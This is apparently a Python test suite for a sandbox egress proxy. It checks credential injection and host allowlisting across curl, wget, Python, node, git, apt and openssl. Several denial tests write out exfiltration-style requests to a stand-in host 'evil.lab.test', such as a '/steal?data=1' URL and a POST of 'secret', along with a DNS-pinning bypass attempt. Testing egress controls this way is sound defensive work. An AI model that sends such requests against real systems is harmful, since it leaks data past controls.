# SPDX-License-Identifier: Apache-2.0
"""Programs of Debian, unchanged, inside: curl, wget, Python, node, git, apt, openssl."""
import hashlib
import os
import re
import shutil
import unittest

import support
from support import PYTHON, policy

RULES = policy("{to: 'https://api.lab.test', credential: api}", "https://www.lab.test", "http://plain.lab.test",
               "{to: 'https://git.lab.test', credential: git}", "{to: 'http://deb.lab.test', methods: [GET, HEAD]}",
               credentials="PLACE")


class Box(support.Boxed):
    @classmethod
    def make_box(cls):
        text = RULES.replace("PLACE", support.file_credential() + support.file_credential(
            "git", "inject: basic, username: x-access-token, env: GIT_TOKEN"))
        # Programs that load all authorities between connecting and their hello take seconds for it on a busy machine.
        config = support.LAB.write("clients.yaml", support.LAB.config("timeouts: {hello: 120s, header: 120s, connect: 60s, response: 120s}\n"))
        return support.Sandbox(text, config=config)


class Curl(Box):
    def test_get_with_credential(self):
        done = self.box.run("curl", "-sS", "https://api.lab.test/whoami")
        self.assertTrue(done.json()["authenticated"], done)

    def test_post(self):
        done = self.box.run("curl", "-sS", "-d", "a=1&b=2", "https://www.lab.test/form")
        self.assertEqual((done.json()["method"], done.json()["body"]), ("POST", 7), done)

    def test_upload_expects_100(self):
        data = os.urandom(1 << 20)
        support.LAB.write("upload.bin", "")
        with open(support.LAB.path("upload.bin"), "wb") as f:
            f.write(data)
        for option, interim in (("--http1.1", "HTTP/1.1 100 Continue"), ("--http2", "HTTP/2 100")):
            done = self.box.run("curl", "-sSv", option, "-H", "Expect: 100-continue", "-T",
                                support.LAB.path("upload.bin"), "https://www.lab.test/put")
            self.assertEqual(done.json()["sha256"], hashlib.sha256(data).hexdigest(), done)
            self.assertIn(interim, done.err)

    def test_versions(self):
        """HTTP/2 and HTTP/1.1: the same request, the same answer, the same verdict; the log says which it was."""
        for option, version in (("--http1.1", "1.1"), ("--http2", "2")):
            done = self.box.run("curl", "-sS", option, "-w", "%{http_version}", "-o", "/dev/null",
                                "https://api.lab.test/version")
            self.assertEqual(done.out, version, done)
            done = self.box.run("curl", "-sS", option, "-d", "x" * 30000, "https://www.lab.test/version")
            self.assertEqual(done.json()["body"], 30000, done)
            done = self.box.run("curl", "-sS", option, "-w", "%{http_code}", "https://other.lab.test/version")
            self.assertIn("urn:vethguard:problem:denied", done.out)
            self.assertTrue(done.out.endswith("403"), done)

    def test_chunked_upload(self):
        done = self.box.run("curl", "-sS", "-H", "Transfer-Encoding: chunked", "-T", "-", "https://www.lab.test/put",
                            input=b"x" * 300000)
        self.assertEqual(done.json()["body"], 300000, done)

    def test_head(self):
        done = self.box.run("curl", "-sSI", "https://www.lab.test/bytes/1000")
        self.assertIn("content-length: 1000", done.out.lower())

    def test_tls12(self):
        done = self.box.run("curl", "-sSv", "--tls-max", "1.2", "https://www.lab.test/x")
        self.assertIn("TLSv1.2", done.err)
        self.assertEqual(done.status, 0, done)

    def test_ipv6(self):
        self.assert_ok(self.box.run("curl", "-sS6", "https://www.lab.test/x"))

    def test_keep_alive(self):
        done = self.box.run("curl", "-sSv", *(["https://www.lab.test/%d" % i for i in range(5)]))
        self.assertEqual(done.err.count("Re-using existing connection"), 4, done)

    def test_range_and_resume_headers_pass(self):
        self.box.run("curl", "-sS", "-r", "10-19", "https://www.lab.test/part")
        self.assertEqual(len([r for r in self.seen("http", path="/part") if ["range", "bytes=10-19"] in r["headers"]]), 1)
        self.box.run("curl", "-sS", "--http1.1", "-r", "10-19", "https://www.lab.test/part")
        self.assertEqual(len([r for r in self.seen("http", path="/part") if ["Range", "bytes=10-19"] in r["headers"]]), 1)

    def test_compressed(self):
        self.assert_ok(self.box.run("curl", "-sS", "--compressed", "https://api.lab.test/x"))

    def test_denied(self):
        done = self.box.run("curl", "-sS", "https://evil.lab.test/steal?data=1")
        self.assert_denied(self.box, done.json())
        self.assert_never_seen("steal")

    def test_denied_plain(self):
        done = self.box.run("curl", "-sS", "http://evil.lab.test/")
        self.assert_denied(self.box, done.json())
        self.assert_never_seen("evil")

    def test_denied_by_address(self):
        done = self.box.run("curl", "-sSk", "https://10.99.0.66/")
        self.assert_denied(self.box, done.json())
        self.assertEqual(self.seen("evil"), [])

    def test_denied_by_real_address_with_allowed_name(self):
        """--resolve pins an allowed name to another address: the name is resolved anew on this side."""
        done = self.box.run("curl", "-sS", "--resolve", "www.lab.test:443:10.99.0.66", "https://www.lab.test/pinned")
        self.assertEqual(self.seen("evil"), [])
        if done.status == 0 and '"path"' in done.out:
            self.assertEqual(len(self.seen("http", path="/pinned")), 1)

    def test_unverified_upstream_is_refused(self):
        """api.lab.test's certificate is fine, but not for a name that is not in it."""
        box = self.sandbox(policy("https://other.lab.test"))
        done = box.run("curl", "-sSk", "https://other.lab.test/x")
        self.assertEqual(done.json()["status"], 502, done)
        self.assertEqual(self.seen("http"), [])

    def test_unknown_authority_is_refused(self):
        config = support.LAB.write("noca.yaml", support.LAB.config().replace("ca_files", "# ca_files"))
        box = self.sandbox(policy("https://www.lab.test"), config=config)
        done = box.run("curl", "-sSk", "https://www.lab.test/x")
        self.assertEqual(done.json()["status"], 502, done)
        self.assertEqual(self.seen("http"), [])


class Wget(Box):
    def test_get(self):
        done = self.box.run("wget", "-qO-", "https://api.lab.test/whoami")
        self.assertTrue(done.json()["authenticated"], done)

    def test_mirror_of_redirect_is_judged(self):
        done = self.box.run("wget", "-qO-", "--content-on-error", "https://api.lab.test/redirect")
        self.assertNotEqual(done.status, 0)
        self.assert_denied(self.box, done.json())
        self.assertEqual(self.seen("evil"), [])

    def test_plain(self):
        self.assert_ok(self.box.run("wget", "-qO-", "http://plain.lab.test/x"))


class Python(Box):
    def test_requests(self):
        done = self.box.run(PYTHON, "-c", "import requests\ns = requests.Session()\n"
                            "print([s.get('https://api.lab.test/whoami').json()['authenticated'] for _ in range(3)])")
        self.assertEqual(done.out, "[True, True, True]\n", done)

    def test_requests_streams(self):
        done = self.box.run(PYTHON, "-c", "import requests\nr = requests.get('https://www.lab.test/bytes/5000000', stream=True)\n"
                            "print(sum(len(c) for c in r.iter_content(65536)))")
        self.assertEqual(done.out, "5000000\n", done)

    def test_requests_denied(self):
        done = self.box.run(PYTHON, "-c", "import requests, json\nr = requests.post('https://evil.lab.test/x', data='secret')\n"
                            "print(json.dumps(r.json()))\nassert r.headers['content-type'] == 'application/problem+json'")
        self.assert_denied(self.box, done.json())
        self.assertEqual(self.seen("evil"), [])

    def test_httpx(self):
        done = self.box.run(PYTHON, "-c", "import httpx\nwith httpx.Client() as c:\n"
                            " print(c.get('https://api.lab.test/whoami').json()['authenticated'], c.post('https://www.lab.test/p', content=b'x'*100000).json()['body'])")
        self.assertEqual(done.out, "True 100000\n", done)

    def test_httpx_async_parallel(self):
        done = self.box.run(PYTHON, "-c", "import asyncio, httpx\nasync def main():\n async with httpx.AsyncClient() as c:\n"
                            "  rs = await asyncio.gather(*(c.get('https://www.lab.test/n%d' % i) for i in range(20)))\n"
                            "  print([r.json()['path'] for r in rs] == ['/n%d' % i for i in range(20)])\nasyncio.run(main())")
        self.assertEqual(done.out, "True\n", done)

    def test_urllib(self):
        done = self.box.run(PYTHON, "-c", "import urllib.request\nprint(urllib.request.urlopen('https://api.lab.test/whoami').status)")
        self.assertEqual(done.out, "200\n", done)


@unittest.skipUnless(shutil.which("node"), "no node here")
class Node(Box):
    def node(self, code):
        return self.box.run("node", "-e", code)

    def test_https_get(self):
        done = self.node("require('https').get('https://api.lab.test/whoami', r => { let d = ''; r.on('data', c => d += c);"
                         " r.on('end', () => console.log(r.statusCode, JSON.parse(d).authenticated)) })")
        self.assertEqual(done.out, "200 true\n", done)

    def test_fetch(self):
        done = self.node("if (!globalThis.fetch) { console.log('none'); process.exit() }\n"
                         "fetch('https://api.lab.test/whoami').then(r => r.json()).then(j => console.log(j.authenticated))")
        self.assertIn(done.out, ("true\n", "none\n"), done)

    def test_post_stream(self):
        done = self.node("const q = require('https').request('https://www.lab.test/p', {method: 'POST'}, r => { let d = '';"
                         " r.on('data', c => d += c); r.on('end', () => console.log(JSON.parse(d).body)) });"
                         "for (let i = 0; i < 100; i++) q.write('x'.repeat(10000)); q.end()")
        self.assertEqual(done.out, "1000000\n", done)

    def test_denied(self):
        done = self.node("require('https').get('https://evil.lab.test/', r => { let d = ''; r.on('data', c => d += c);"
                         " r.on('end', () => console.log(d)) })")
        self.assert_denied(self.box, done.json())


class Git(Box):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        top = support.LAB.path("git")
        work = support.LAB.path("gitwork")
        env = dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_AUTHOR_NAME="a", GIT_AUTHOR_EMAIL="a@lab.test",
                   GIT_COMMITTER_NAME="a", GIT_COMMITTER_EMAIL="a@lab.test")
        for argv in (["git", "init", "-q", "--bare", "-b", "main", top + "/repo.git"],
                     ["git", "-C", top + "/repo.git", "config", "http.receivepack", "true"],
                     ["git", "init", "-q", "-b", "main", work]):
            support.sh(*argv, env=env)
        with open(work + "/big.txt", "w") as f:
            f.write("".join(hashlib.sha256(b"%d" % i).hexdigest() + "\n" for i in range(50000)))
        support.sh("git", "-C", work, "add", ".", env=env)
        support.sh("git", "-C", work, "commit", "-qm", "first", env=env)
        support.sh("git", "-C", work, "push", "-q", top + "/repo.git", "main", env=env)
        cls.env = {k: v for k, v in env.items() if k.startswith("GIT_")}
        cls.env["GIT_TERMINAL_PROMPT"] = "0"

    def git(self, *argv):
        return self.box.run("git", *argv, env=self.env)

    def folder(self, name):
        path = support.LAB.path(name)
        shutil.rmtree(path, ignore_errors=True)
        return path

    def test_clone_and_push(self):
        path = self.folder("clone1")
        self.assert_ok(self.git("clone", "-q", "https://git.lab.test/git/repo.git", path))
        self.assertEqual(os.path.getsize(path + "/big.txt"), 65 * 50000)
        self.assert_ok(self.git("-C", path, "commit", "-q", "--allow-empty", "-m", "second"))
        done = self.git("-C", path, "push", "-q", "origin", "HEAD:refs/heads/new")
        self.assert_ok(done)
        log = support.sh("git", "-c", "safe.directory=*", "-C", support.LAB.path("git/repo.git"), "log", "--format=%s", "new")
        self.assertEqual(log, "second\nfirst\n")

    def test_no_token_in_the_clone(self):
        path = self.folder("clone2")
        self.assert_ok(self.git("clone", "-q", "https://git.lab.test/git/repo.git", path))
        done = self.box.sh(f"cat {path}/.git/config; git -C {path} remote -v")
        self.assert_no_secret(done.out)

    def test_without_the_credential(self):
        box = self.sandbox(policy("https://git.lab.test"))
        done = box.run("git", "clone", "-q", "https://git.lab.test/git/repo.git", self.folder("clone3"), env=self.env)
        self.assertNotEqual(done.status, 0)

    def test_another_host(self):
        """git reads all of the system's authorities between connecting and its hello, which may take more than a second."""
        done = self.git("clone", "-q", "https://evil.lab.test/git/repo.git", self.folder("clone4"))
        self.assertNotEqual(done.status, 0)
        self.assertIn("403", done.err)
        self.assertEqual(self.seen("evil"), [])

    def test_ssh_transport_is_refused(self):
        done = self.git("clone", "-q", "ssh://git@git.lab.test/repo.git", self.folder("clone5"))
        self.assertNotEqual(done.status, 0)

    def test_git_transport_is_refused(self):
        """The client sends half a head of HTTP, and the time for a head is soon over."""
        config = support.LAB.write("git-header.yaml", support.LAB.config("timeouts: {hello: 1s, header: 1s}\n"))
        box = self.sandbox(policy("https://git.lab.test"), config=config)
        done = box.run("git", "clone", "-q", "git://git.lab.test/repo.git", self.folder("clone6"), env=self.env)
        self.assertNotEqual(done.status, 0)
        self.assertIsNotNone(box.event(action_id=2, **{"dst_endpoint.port": 9418}), box.events())


@unittest.skipUnless(shutil.which("apt-get") and shutil.which("dpkg-deb"), "no apt here")
class Apt(Box):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        lab = support.LAB
        top = lab.path("files/deb")
        os.makedirs(top, exist_ok=True)
        os.makedirs(lab.path("pkg/DEBIAN"), exist_ok=True)
        lab.write("pkg/DEBIAN/control", "Package: vethguard-lab\nVersion: 1.0\nArchitecture: all\nMaintainer: Lab <a@lab.test>\n"
                  "Description: a package\n")
        support.sh("dpkg-deb", "--build", "--root-owner-group", lab.path("pkg"), top + "/vethguard-lab_1.0_all.deb")
        with open(top + "/vethguard-lab_1.0_all.deb", "rb") as f:
            data = f.read()
        cls.size = len(data)
        with open(top + "/Packages", "w") as f:
            f.write("Package: vethguard-lab\nVersion: 1.0\nArchitecture: all\nMaintainer: Lab <a@lab.test>\n"
                    f"Filename: ./vethguard-lab_1.0_all.deb\nSize: {len(data)}\nSHA256: {hashlib.sha256(data).hexdigest()}\n"
                    "Description: a package\n\n")

    def apt(self, host, *argv):
        root = support.LAB.path("apt")
        for d in ("lists/partial", "cache/archives/partial", "dpkg", "etc"):
            os.makedirs(os.path.join(root, d), exist_ok=True)
        support.LAB.write("apt/dpkg/status", "")
        support.LAB.write("apt/sources.list", f"deb [trusted=yes] http://{host}/files/deb ./\n")
        options = {"Dir::State::Lists": root + "/lists", "Dir::Cache": root + "/cache", "Dir::State::status": root + "/dpkg/status",
                   "Dir::Etc::SourceList": root + "/sources.list", "Dir::Etc::SourceParts": "/dev/null",
                   "Dir::Etc::main": "/dev/null", "Dir::Etc::parts": "/dev/null", "Acquire::Retries": "0",
                   "APT::Sandbox::User": "root", "Debug::NoLocking": "1", "Acquire::Languages": "none"}
        flags = [x for k, v in options.items() for x in ("-o", f"{k}={v}")]
        return self.box.run("apt-get", "-q", *flags, *argv)

    def test_update_and_download(self):
        done = self.apt("deb.lab.test", "update")
        self.assertEqual(done.status, 0, done)
        done = self.apt("deb.lab.test", "install", "-y", "--download-only", "vethguard-lab")
        self.assertEqual(done.status, 0, done)
        self.assertEqual(os.path.getsize(support.LAB.path("apt/cache/archives/vethguard-lab_1.0_all.deb")), self.size)

    def test_another_host(self):
        done = self.apt("evil.lab.test", "update", "-o", "APT::Update::Error-Mode=any")
        self.assertIn("403", done.out + done.err)
        self.assertEqual(self.seen("evil"), [])


class OpenSsl(Box):
    def test_s_client(self):
        done = self.box.run("openssl", "s_client", "-quiet", "-verify_return_error", "-connect", "api.lab.test:443",
                            "-servername", "api.lab.test",
                            input=b"GET /whoami HTTP/1.1\r\nHost: api.lab.test\r\nConnection: close\r\n\r\n")
        self.assertIn('"authenticated": true', done.out, done)

    def test_leaf(self):
        """Checks of a certificate as a strict client makes them."""
        done = self.box.sh("openssl s_client -connect api.lab.test:443 -servername api.lab.test </dev/null 2>/dev/null |"
                           " openssl x509 -noout -text")
        text = done.out
        self.assertIn("DNS:api.lab.test", text)
        self.assertIn("prime256v1", text)
        for field in ("Authority Key Identifier", "Subject Key Identifier", "TLS Web Server Authentication"):
            self.assertIn(field, text)
        self.assertNotIn("CA:TRUE", text)
        self.assertTrue(re.search("Basic Constraints: ?(critical)?\\s+CA:FALSE", text) or "Basic Constraints" not in text)

    def test_leaf_is_not_of_another_name(self):
        done = self.box.sh("openssl s_client -connect www.lab.test:443 -servername www.lab.test -verify_hostname api.lab.test"
                           " -verify_return_error </dev/null 2>&1")
        self.assertNotEqual(done.status, 0)

    def test_old_protocols_are_refused(self):
        for version in ("-tls1", "-tls1_1"):
            done = self.box.run("openssl", "s_client", version, "-cipher", "ALL@SECLEVEL=0", "-connect", "www.lab.test:443", input=b"")
            self.assertNotEqual(done.status, 0, done)

    def test_resumption(self):
        ticket = support.LAB.path("session.pem")
        self.box.sh(f"(printf 'GET /x HTTP/1.1\\r\\nHost: www.lab.test\\r\\n\\r\\n'; sleep 0.5) | openssl s_client -quiet -no_ign_eof -connect www.lab.test:443 -servername www.lab.test -sess_out {ticket}")
        done = self.box.sh(f"openssl s_client -connect www.lab.test:443 -servername www.lab.test -sess_in {ticket} </dev/null 2>&1")
        self.assertIn("Reused", done.out)

    def test_no_resumption_across_hosts(self):
        ticket = support.LAB.path("session2.pem")
        self.box.sh(f"(printf 'GET /x HTTP/1.1\\r\\nHost: www.lab.test\\r\\n\\r\\n'; sleep 0.5) | openssl s_client -quiet -no_ign_eof -connect www.lab.test:443 -servername www.lab.test -sess_out {ticket}")
        done = self.box.sh(f"openssl s_client -connect api.lab.test:443 -servername api.lab.test -sess_in {ticket} </dev/null 2>&1")
        self.assertNotIn("Reused", done.out)
